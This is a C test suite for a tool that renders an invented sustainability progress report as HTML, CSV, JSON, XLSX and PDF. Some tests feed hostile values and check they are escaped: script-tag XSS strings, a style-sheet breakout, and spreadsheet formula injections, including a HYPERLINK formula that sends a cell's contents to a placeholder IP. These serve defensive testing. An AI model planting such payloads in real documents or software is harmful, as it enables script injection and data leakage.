/* SPDX-License-Identifier: MIT */
#include "gp-render.h"

#include <cjson/cJSON.h>
#include <glib/gstdio.h>
#include <signal.h>
#include <string.h>
#include <sys/resource.h>

#include "gp-csv.h"
#include "gp-error.h"
#include "gp-file.h"
#include "gp-program.h"
#include "gp-xlsx.h"
#include "papers.h"

static char *
print_page(const GpDocument *document)
{
    const GpDrawnChart charts[] = {{"other", "x"}, {"drawn", drawn_svg}};
    g_autoptr(GError) error = NULL;
    char *html = gp_render_html(document, g_getenv("GP_DATA"), charts, 2, &error);

    g_assert_no_error(error);
    return html;
}

/* The first group of each place where @pattern matches. */
static GPtrArray *
find_all(const char *text, const char *pattern)
{
    GPtrArray *found = g_ptr_array_new_with_free_func(g_free);
    g_autoptr(GRegex) regex =
        g_regex_new(pattern, (GRegexCompileFlags)0, (GRegexMatchFlags)0, NULL);
    g_autoptr(GMatchInfo) match = NULL;

    g_assert_nonnull(regex);
    for (g_regex_match(regex, text, (GRegexMatchFlags)0, &match); g_match_info_matches(match);
         g_match_info_next(match, NULL))
        g_ptr_array_add(found, g_match_info_fetch(match, 1));
    return found;
}

/* ── HTML ───────────────────────────────────────────────────────────────────────────────────── */

static void
test_page_has_its_parts(void)
{
    static const char *const parts[] = {
        "<html lang=\"en-GB\">",
        "<a class=\"skip\" href=\"#main\">",
        "<main id=\"main\" tabindex=\"-1\">",
        "<h1>Green Plan progress report</h1>",
        "<p class=\"notice\" role=\"note\">Invented data: this trust does not exist</p>",
        "<li><a href=\"#sites\">Sites</a></li>",
        "<section class=\"part board\" id=\"board\" aria-labelledby=\"heading-board\">",
        "<h3 id=\"heading-board-causes\">What changed it</h3>",
        "<h4 id=\"heading-causes-notes\">How causes are told apart</h4>",
        "<strong>Off track</strong>",
        "<dt>Gap to the path</dt><dd class=\"figure\">+1,421 t</dd><dd>12.2% above it</dd>",
        "<summary>Table: What changed the footprint, 2019/20 to 2025/26</summary>",
        "<th scope=\"col\" class=\"number\">Gap to the path <span class=\"unit\">%</span></th>",
        "<tr class=\"total\"><th scope=\"row\">All causes</th><td></td>",
        "<td class=\"number\">−3,288</td></tr>",
        "[x] not available; [p] provisional",
    };
    g_autoptr(GpDocument) document = paper_for_a_board();
    g_autofree char *html = print_page(document);
    g_autoptr(GPtrArray) heads = find_all(html, "(<h1)[ >]");

    for (guint i = 0; i < G_N_ELEMENTS(parts); i++) {
        if (strstr(html, parts[i]) == NULL)
            g_error("not in the page: %s", parts[i]);
    }
    g_assert_cmpuint(heads->len, ==, 1);
}

/* The table of a chart on the first page comes at its end. */
static void
test_first_page_keeps_its_tables_for_last(void)
{
    g_autoptr(GpDocument) document = paper_for_a_board();
    g_autofree char *html = print_page(document);
    const char *owner = strstr(html, "id=\"heading-board-owner\"");
    const char *table = strstr(html, "id=\"table-trajectory\"");
    const char *next = strstr(html, "id=\"causes\"");

    g_assert_true(owner != NULL && owner < table && table < next);
}

static void
test_ids_are_unlike_each_other(void)
{
    GpDocument *documents[] = {paper_for_a_board(), paper_of_extremes()};

    for (guint i = 0; i < G_N_ELEMENTS(documents); i++) {
        g_autofree char *html = print_page(documents[i]);
        g_autoptr(GPtrArray) ids = find_all(html, " id=\"([^\"]*)\"");
        g_autoptr(GPtrArray) targets = find_all(html, "(?:href=\"#|labelledby=\")([^\"]*)\"");
        g_autoptr(GHashTable) seen = g_hash_table_new(g_str_hash, g_str_equal);

        g_assert_cmpuint(ids->len, >, 9);
        g_assert_cmpuint(targets->len, >, 4);
        for (guint k = 0; k < ids->len; k++)
            g_assert_true(g_hash_table_add(seen, ids->pdata[k]));
        for (guint k = 0; k < targets->len; k++)
            g_assert_true(g_hash_table_contains(seen, targets->pdata[k]));
        gp_document_free(documents[i]);
    }
}

/* Pages have the last rows and the total, files have all. */
static void
test_long_tables_are_cut_on_pages_only(void)
{
    g_autoptr(GpDocument) document = paper_of_extremes();
    g_autofree char *html = print_page(document);
    g_autofree char *json = gp_render_json(document);

    g_assert_nonnull(strstr(html,
                            ">The last 3 of 600 rows are shown; the workbook and long.csv have "
                            "all.</span>"));
    g_assert_null(strstr(html, ">Month 597<"));
    g_assert_nonnull(strstr(html, ">Month 598<"));
    g_assert_nonnull(strstr(html, ">All months<"));
    g_assert_nonnull(strstr(json, "\"Month 1\""));
}

/* Every tag and attribute is ours: what is not, is escaped. */
static void
test_hostile_names_are_text(void)
{
    static const char *const ours[] = {
        "a",       "body",   "caption", "circle", "dd",      "details", "div",        "dl",
        "dt",      "figure", "footer",  "h1",     "h2",      "head",    "header",     "html",
        "img",     "li",     "main",    "meta",   "nav",     "ol",      "p",          "path",
        "section", "span",   "strong",  "style",  "svg",     "table",   "tbody",      "td",
        "th",      "thead",  "title",   "tr",     "summary", "ul",      "figcaption", NULL,
    };
    g_autoptr(GpDocument) document = paper_of_extremes();
    g_autofree char *html = print_page(document);
    const char *body = strstr(html, "</style>");
    g_autoptr(GPtrArray) tags = find_all(html, "<([A-Za-z][^\\s>/]*)");
    g_autoptr(GPtrArray) handlers = find_all(body, "<(?:[^<>\"]|\"[^\"]*\")*?\\s(on[a-z]+)=");
    g_autoptr(GPtrArray) loads =
        find_all(body, "<(?:[^<>\"]|\"[^\"]*\")*?\\s(?:src|href)=\"(?!#|data:image/svg)([^\"]*)");
    g_autoptr(GPtrArray) ends = find_all(html, "(</style>)");

    g_assert_cmpuint(tags->len, >, 100);
    for (guint i = 0; i < tags->len; i++) {
        if (!g_strv_contains(ours, tags->pdata[i]))
            g_error("a tag <%s>", (char *)tags->pdata[i]);
    }
    g_assert_cmpuint(handlers->len, ==, 0);
    g_assert_cmpuint(loads->len, ==, 0);
    g_assert_cmpuint(ends->len, ==, 1);
    g_assert_nonnull(strstr(body, "<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>"));
    g_assert_nonnull(strstr(body, "<td>&amp;lt;b&amp;gt;&amp;amp;amp;&amp;#60;</td>"));
    g_assert_null(strstr(html, "\xe2\x80\xae"));
    g_assert_null(strchr(html, '\x1b'));
    g_assert_true(g_utf8_validate(html, -1, NULL));
}

static void
test_only_its_own_style_is_allowed(void)
{
    g_autoptr(GpDocument) document = paper_of_extremes();
    g_autofree char *html = print_page(document);
    g_autoptr(GPtrArray) style = find_all(html, "<style>([^<]*)</style>");
    g_autoptr(GPtrArray) policy = find_all(html, "style-src '(sha256-[^']*)'");
    g_autofree char *digest = NULL;
    g_autofree guchar *bytes = NULL;
    gsize length = 0;

    g_assert_cmpuint(style->len, ==, 1);
    g_assert_cmpuint(policy->len, ==, 1);
    g_assert_nonnull(strstr(html, "default-src 'none'"));
    digest = g_compute_checksum_for_string(G_CHECKSUM_SHA256, style->pdata[0], -1);
    bytes = g_base64_decode((const char *)policy->pdata[0] + strlen("sha256-"), &length);
    g_assert_cmpuint(length, ==, 32);
    for (gsize i = 0; i < length; i++) {
        g_autofree char *pair = g_strdup_printf("%02x", bytes[i]);

        g_assert_true(strncmp(digest + 2 * i, pair, 2) == 0);
    }
}

static void
test_charts_are_images_or_texts(void)
{
    g_autoptr(GpDocument) document = paper_of_extremes();
    g_autofree char *html = print_page(document);
    g_autoptr(GPtrArray) images =
        find_all(html, "<img [^<>]*src=\"data:image/svg\\+xml;base64,([^\"]*)\"");
    g_autofree char *svg = NULL;
    gsize length = 0;

    g_assert_cmpuint(images->len, ==, 1);
    svg = (char *)g_base64_decode(images->pdata[0], &length);
    g_assert_cmpstr(svg, ==, drawn_svg);
    g_assert_cmpuint(length, ==, strlen(drawn_svg));
    g_assert_nonnull(strstr(html, "<figure id=\"chart-undrawn\">\n<figcaption><strong>"));
}

static void
test_same_bytes(void)
{
    g_autoptr(GpDocument) document = paper_of_extremes();
    g_autofree char *first = print_page(document);
    g_autofree char *second = print_page(document);

    g_assert_cmpstr(first, ==, second);
}

static void
test_a_style_sheet_must_be_one(void)
{
    static const char *const sheets[] = {"a{}</style><script>x()</script>", "a{}\xff", ""};
    g_autoptr(GpDocument) document = paper_for_a_board();
    g_autofree char *folder = gp_program_make_folder(NULL);
    g_autofree char *pack = g_build_filename(folder, "pack", NULL);
    g_autofree char *path = g_build_filename(pack, "page.css", NULL);

    for (guint i = 0; i < G_N_ELEMENTS(sheets); i++) {
        g_autoptr(GError) error = NULL;

        if (*sheets[i] != '\0') {
            g_mkdir_with_parents(pack, 0700);
            g_assert_true(g_file_set_contents(path, sheets[i], -1, NULL));
        } else {
            g_unlink(path);
        }
        g_assert_null(gp_render_html(document, folder, NULL, 0, &error));
        g_assert_error(error, GP_ERROR, (*sheets[i] == '\0' ? GP_ERROR_IO : GP_ERROR_MALFORMED));
    }
    gp_file_remove_folder(folder);
}

/* ── CSV and JSON ───────────────────────────────────────────────────────────────────────────── */

static const GpDocTable *
find_table(GPtrArray *tables, const char *id)
{
    for (guint i = 0; i < tables->len; i++) {
        if (g_str_equal(((GpDocTable *)tables->pdata[i])->id, id))
            return tables->pdata[i];
    }
    g_assert_not_reached();
}

static char *
print_csv(const GpDocument *document, const char *id)
{
    g_autoptr(GPtrArray) tables = gp_document_tables(document);
    GString *out = g_string_new(NULL);

    gp_render_csv(find_table(tables, id), out);
    return g_string_free(out, FALSE);
}

static void
test_csv_is_exact(void)
{
    g_autoptr(GpDocument) document = paper_of_extremes();
    g_autofree char *csv = print_csv(document, "marks");

    g_assert_cmpstr(csv, ==,
                    "mark,with_t,with_t_mark,without_t,change_t\r\n"
                    "none,1234.567,,[x],0\r\n"
                    "\"not shown, so that nobody can be told from it\",[c],,[c],-0.005\r\n"
                    "not available,[x],,[x],-0.004\r\n"
                    "not applicable,[z],,[z],-0.003\r\n"
                    "rounds to 0 but is not 0,1234.567,[low],[x],-0.002\r\n"
                    "of low reliability,-1234.567,[u],[u],-0.001\r\n"
                    "estimated,1234.567,[e],[e],0\r\n"
                    "forecast,-1234.567,[f],[f],0.001\r\n"
                    "provisional,1234.567,[p],[p],0.002\r\n"
                    "revised since it was first published,-1234.567,[r],[r],0.003\r\n"
                    "not comparable with the years before it,1234.567,[b],[b],0.004\r\n"
                    "incomplete: part of the year or of the sources is missing,-1234.567,[i],[i],"
                    "0.005\r\n"
                    "large,123456789012.005,,-98765432,1.25\r\n");
}

static void
test_csv_has_no_formulas(void)
{
    g_autoptr(GpDocument) document = paper_of_extremes();
    guint n_names = g_strv_length((char **)hostile_names);
    g_autofree char *csv = print_csv(document, "names");
    g_autofree char *folder = gp_program_make_folder(NULL);
    g_autofree char *path = g_build_filename(folder, "names.csv", NULL);
    g_autoptr(GError) error = NULL;
    g_autoptr(GpCsvTable) table = NULL;

    g_assert_true(g_file_set_contents(path, csv, -1, NULL));
    table = gp_csv_table_load(path, &error);
    g_assert_no_error(error);
    g_assert_cmpuint(gp_csv_table_n_rows(table), ==, 4 * n_names + 4);
    for (guint i = 0; i < gp_csv_table_n_rows(table); i++) {
        const char *cell = gp_csv_table_cell(table, i, 1);

        g_assert_null(strchr("=+-@\t\r", cell[0]));
        if (i < n_names && strchr("=+-@", hostile_names[i][0]) != NULL) {
            g_assert_cmpint(cell[0], ==, '\'');
            g_assert_cmpstr(cell + 1, ==, hostile_names[i]);
        }
    }
    g_assert_cmpstr(gp_csv_table_cell(table, 4, 2), ==, "-5");
    gp_file_remove_folder(folder);
}

static void
test_csv_without_rows(void)
{
    g_autoptr(GpDocument) document = paper_of_extremes();
    g_autofree char *csv = print_csv(document, "empty");

    g_assert_true(g_str_has_prefix(csv, "what,y2011_kwh,"));
    g_assert_true(g_str_has_suffix(csv, ",y2025_kwh\r\n"));
    g_assert_null(strchr(strchr(csv, '\n') + 1, '\n'));
}

static const cJSON *
at(const cJSON *object, const char *name)
{
    const cJSON *item = cJSON_GetObjectItemCaseSensitive(object, name);

    g_assert_nonnull(item);
    return item;
}

static void
test_json_is_exact(void)
{
    g_autoptr(GpDocument) document = paper_of_extremes();
    g_autoptr(GPtrArray) tables = gp_document_tables(document);
    g_autofree char *json = gp_render_json(document);
    cJSON *object = cJSON_Parse(json);
    const cJSON *table, *row, *cell;

    g_assert_nonnull(object);
    g_assert_cmpint(cJSON_GetArraySize(at(object, "tables")), ==, (int)tables->len);
    table = cJSON_GetArrayItem(at(object, "tables"), 1);
    g_assert_cmpstr(at(table, "id")->valuestring, ==, "marks");
    row = cJSON_GetArrayItem(at(table, "rows"), 5);
    cell = at(at(row, "cells"), "with_t");
    g_assert_cmpstr(at(cell, "value")->valuestring, ==, "-1234.567");
    g_assert_cmpstr(at(cell, "shown")->valuestring, ==, "−1,234.57 [u]");
    g_assert_cmpstr(at(cell, "mark")->valuestring, ==, "[u]");
    row = cJSON_GetArrayItem(at(table, "rows"), 1);
    cell = at(at(row, "cells"), "with_t");
    g_assert_true(cJSON_IsNull(at(cell, "value")));
    g_assert_cmpstr(at(cell, "shown")->valuestring, ==, "[c]");
    g_assert_null(strstr(json, "1,234.57 [c]"));
    cJSON_Delete(object);
}

/* ── XLSX ───────────────────────────────────────────────────────────────────────────────────── */

typedef struct {
    char *folder, *path;
    GpXlsx *book;
    GString *cells; /* `A1=t:…` a line */
} Book;

static gboolean
take_row(guint row, const GpXlsxCell *cells, guint n_cells, gpointer data)
{
    static const char kinds[] = {'t', 'n', 'b', 'e'};
    char name[GP_XLSX_CELL_NAME_SIZE];
    Book *book = data;

    for (guint i = 0; i < n_cells; i++) {
        gp_xlsx_print_cell(cells[i].column, row, name);
        g_string_append_printf(book->cells, "%s=%c:%s\n", name, kinds[cells[i].kind],
                               cells[i].text);
    }
    return TRUE;
}

static Book *
book_new(const GpDocument *document)
{
    Book *self = g_new0(Book, 1);
    g_autoptr(GError) error = NULL;

    self->folder = gp_program_make_folder(&error);
    g_assert_no_error(error);
    self->path = g_build_filename(self->folder, "pack.xlsx", NULL);
    gp_render_xlsx(document, self->path, &error);
    g_assert_no_error(error);
    self->book = gp_xlsx_open(self->path, &error);
    g_assert_no_error(error);
    self->cells = g_string_new(NULL);
    return self;
}

static void
book_free(Book *self)
{
    gp_xlsx_free(self->book);
    g_string_free(self->cells, TRUE);
    gp_file_remove_folder(self->folder);
    g_free(self->folder);
    g_free(self->path);
    g_free(self);
}

G_DEFINE_AUTOPTR_CLEANUP_FUNC(Book, book_free)

static const char *
read_sheet(Book *self, const char *name)
{
    int sheet = gp_xlsx_find_sheet(self->book, name);
    g_autoptr(GError) error = NULL;

    g_assert_cmpint(sheet, >=, 0);
    g_string_truncate(self->cells, 0);
    gp_xlsx_read_sheet(self->book, (guint)sheet, take_row, self, &error);
    g_assert_no_error(error);
    return self->cells->str;
}

static void
test_workbook_has_a_sheet_for_each_table(void)
{
    g_autoptr(GpDocument) document = paper_of_extremes();
    g_autoptr(GPtrArray) tables = gp_document_tables(document);
    g_autoptr(Book) book = book_new(document);
    g_autoptr(GHashTable) seen = g_hash_table_new(g_str_hash, g_str_equal);

    g_assert_cmpuint(gp_xlsx_n_sheets(book->book), ==, tables->len + 1);
    g_assert_cmpstr(gp_xlsx_sheet_name(book->book, 0), ==, "contents");
    g_assert_cmpstr(gp_xlsx_sheet_name(book->book, 2), ==, "marks");
    g_assert_cmpstr(gp_xlsx_sheet_name(book->book, 6), ==, "a-table-whose-id-is-longer-than");
    g_assert_cmpstr(gp_xlsx_sheet_name(book->book, 7), ==, "a-table-whose-id-is-longer-th-2");
    for (guint i = 0; i < gp_xlsx_n_sheets(book->book); i++) {
        const char *name = gp_xlsx_sheet_name(book->book, i);

        g_assert_cmpuint(strlen(name), <=, 31);
        g_assert_true(g_hash_table_add(seen, (char *)name));
    }
    g_assert_nonnull(strstr(read_sheet(book, "contents"), "=t:Every mark, with a figure"));
}

static void
test_workbook_has_real_numbers(void)
{
    g_autoptr(GpDocument) document = paper_of_extremes();
    g_autoptr(Book) book = book_new(document);
    static const char *const cells[] = {
        "A16=t:Mark\n",
        "B16=t:With a figure (t)\n",
        "C16=t:With a figure: mark\n",
        "B17=n:1234.567\n",
        "D17=t:[x]\n",
        "B18=t:[c]\n",
        "B22=n:-1234.567\n",
        "C22=t:[u]\n",
        "E22=n:-0.001\n",
        "D29=n:-98765432\n",
        "B29=n:123456789012.005\n",
        "E29=n:1.25\n",
        "A3=t:[c] not shown, so that nobody can be told from it\n",
    };
    const char *sheet = read_sheet(book, "marks");

    for (guint i = 0; i < G_N_ELEMENTS(cells); i++) {
        if (strstr(sheet, cells[i]) == NULL)
            g_error("no %s in %s", cells[i], sheet);
    }
}

static void
test_workbook_has_no_formulas(void)
{
    g_autoptr(GpDocument) document = paper_of_extremes();
    g_autoptr(Book) book = book_new(document);
    const char *sheet = read_sheet(book, "names");

    g_assert_nonnull(strstr(sheet, "=t:=1+1\n"));
    g_assert_nonnull(strstr(sheet, "=t:@SUM(A1:A9)\n"));
    g_assert_nonnull(strstr(sheet, "=t:=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"Press\")\n"));
    g_assert_nonnull(strstr(sheet, "=t:http://192.0.2.1/x\n"));
    g_assert_nonnull(strstr(sheet, "=t:<script>alert(1)</script>\n"));
    g_assert_nonnull(strstr(sheet, "=t:_x0041_\n"));
}

static void
test_workbooks_are_alike(void)
{
    g_autoptr(GpDocument) document = paper_for_a_board();
    g_autoptr(Book) first = book_new(document);
    g_autofree char *a = NULL;
    g_autofree char *b = NULL;
    gsize a_length = 0, b_length = 0;

    g_usleep(2100000); /* a ZIP archive keeps times to two seconds */
    {
        g_autoptr(Book) second = book_new(document);

        g_assert_true(g_file_get_contents(first->path, &a, &a_length, NULL));
        g_assert_true(g_file_get_contents(second->path, &b, &b_length, NULL));
    }
    g_assert_cmpuint(a_length, ==, b_length);
    g_assert_true(memcmp(a, b, a_length) == 0);
}

static void
test_workbook_that_cannot_be_written(void)
{
    g_autoptr(GpDocument) document = paper_for_a_board();
    g_autoptr(GError) error = NULL;

    g_assert_false(gp_render_xlsx(document, "/nonexistent/pack.xlsx", &error));
    g_assert_error(error, GP_ERROR, GP_ERROR_IO);
}

/* With less and less room for files it is refused or whole, never half of it. */
static void
test_workbook_is_whole_or_not_there(void)
{
    g_autoptr(GpDocument) document = paper_of_extremes();
    g_autoptr(Book) book = book_new(document);
    g_autofree char *path = g_build_filename(book->folder, "other.xlsx", NULL);
    g_autofree char *whole = NULL;
    gsize length = 0;
    guint n_refused = 0, n_written = 0;
    struct rlimit usual, limited;

    g_assert_true(g_file_get_contents(book->path, &whole, &length, NULL));
    g_assert_cmpint(getrlimit(RLIMIT_FSIZE, &usual), ==, 0);
    signal(SIGXFSZ, SIG_IGN);
    for (gsize room = 1000; n_written < 3; room += 1000) {
        g_autoptr(GError) error = NULL;
        g_autofree char *bytes = NULL;
        gsize n = 0;
        gboolean ok;

        limited = (struct rlimit){room, usual.rlim_max};
        g_assert_cmpint(setrlimit(RLIMIT_FSIZE, &limited), ==, 0);
        ok = gp_render_xlsx(document, path, &error);
        g_assert_cmpint(setrlimit(RLIMIT_FSIZE, &usual), ==, 0);
        if (!ok) {
            g_assert_error(error, GP_ERROR, GP_ERROR_IO);
            g_assert_false(g_file_test(path, G_FILE_TEST_EXISTS));
            n_refused++;
            continue;
        }
        g_assert_true(g_file_get_contents(path, &bytes, &n, NULL));
        g_assert_cmpuint(n, ==, length);
        g_assert_true(memcmp(bytes, whole, n) == 0);
        g_unlink(path);
        n_written++;
    }
    signal(SIGXFSZ, SIG_DFL);
    g_assert_cmpuint(n_refused, >, 10);
}

/* ── PDF: what Chromium does, and a part of what is said about it ───────────────────────────── */

static const char *const failures[][2] = {
    {NULL, "Chromium is not installed; it makes the PDF (on Debian: apt-get install chromium)"},
    {"echo 'no usable sandbox' >&2; exit 1", "Chromium failed: “no usable sandbox”"},
    {"exit 1", "gave no reason"},
    {"kill -9 $$", "killed by signal 9"},
    {"exit 0", "made no PDF"},
    {"for a; do case $a in --print-to-pdf=*) echo half > ${a#*=};; esac; done", "no whole PDF"},
    {"for a; do case $a in --print-to-pdf=*) echo '%PDF-1.4 lots and lots and lots' > ${a#*=};; "
     "esac; "
     "done",
     "no whole PDF"},
};

static void
test_pdf_failures_leave_the_old_file(void)
{
    g_autofree char *folder = gp_program_make_folder(NULL);
    g_autofree char *page = g_build_filename(folder, "index.html", NULL);
    g_autofree char *pdf = g_build_filename(folder, "board-pack.pdf", NULL);
    g_autofree char *program = g_build_filename(folder, "chromium", NULL);
    g_autofree char *old_path = g_strdup(g_getenv("PATH"));

    g_assert_true(g_file_set_contents(page, "<p>", -1, NULL));
    g_assert_true(g_file_set_contents(pdf, "old", -1, NULL));
    g_setenv("PATH", folder, TRUE);
    for (guint i = 0; i < G_N_ELEMENTS(failures); i++) {
        g_autofree char *script = g_strdup_printf("#!/bin/sh\n%s\n", failures[i][0]);
        g_autofree char *left = NULL;
        g_autoptr(GError) error = NULL;

        if (failures[i][0] != NULL) {
            g_assert_true(g_file_set_contents(program, script, -1, NULL));
            g_assert_cmpint(g_chmod(program, 0700), ==, 0);
        }
        g_assert_false(gp_render_pdf(page, pdf, &error));
        g_assert_error(error, GP_ERROR, GP_ERROR_IO);
        g_assert_nonnull(strstr(error->message, failures[i][1]));
        g_assert_true(g_file_get_contents(pdf, &left, NULL, NULL));
        g_assert_cmpstr(left, ==, "old");
    }
    g_setenv("PATH", old_path, TRUE);
    gp_file_remove_folder(folder);
}

int
main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    g_test_add_func("/render/html/parts", test_page_has_its_parts);
    g_test_add_func("/render/html/first-page", test_first_page_keeps_its_tables_for_last);
    g_test_add_func("/render/html/ids", test_ids_are_unlike_each_other);
    g_test_add_func("/render/html/long", test_long_tables_are_cut_on_pages_only);
    g_test_add_func("/render/html/hostile", test_hostile_names_are_text);
    g_test_add_func("/render/html/policy", test_only_its_own_style_is_allowed);
    g_test_add_func("/render/html/charts", test_charts_are_images_or_texts);
    g_test_add_func("/render/html/same-bytes", test_same_bytes);
    g_test_add_func("/render/html/style-sheet", test_a_style_sheet_must_be_one);
    g_test_add_func("/render/csv/exact", test_csv_is_exact);
    g_test_add_func("/render/csv/formulas", test_csv_has_no_formulas);
    g_test_add_func("/render/csv/no-rows", test_csv_without_rows);
    g_test_add_func("/render/json/exact", test_json_is_exact);
    g_test_add_func("/render/xlsx/sheets", test_workbook_has_a_sheet_for_each_table);
    g_test_add_func("/render/xlsx/numbers", test_workbook_has_real_numbers);
    g_test_add_func("/render/xlsx/formulas", test_workbook_has_no_formulas);
    g_test_add_func("/render/xlsx/same-bytes", test_workbooks_are_alike);
    g_test_add_func("/render/xlsx/refused", test_workbook_that_cannot_be_written);
    g_test_add_func("/render/xlsx/room", test_workbook_is_whole_or_not_there);
    g_test_add_func("/render/pdf/failures", test_pdf_failures_leave_the_old_file);
    return g_test_run();
}
